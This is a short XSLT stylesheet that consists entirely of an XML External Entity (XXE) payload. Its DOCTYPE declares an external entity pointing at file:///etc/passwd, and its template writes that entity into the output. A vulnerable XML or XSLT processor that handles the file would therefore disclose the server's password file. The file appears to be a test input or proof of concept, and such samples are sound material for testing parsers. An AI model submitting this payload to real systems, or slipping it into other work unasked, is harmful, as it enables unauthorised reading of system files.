<?xml version="1.0"?>
<!DOCTYPE xsl:stylesheet [<!ENTITY e SYSTEM "file:///etc/passwd">]>
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
 <xsl:template match="/"><out>&e;</out></xsl:template>
</xsl:stylesheet>
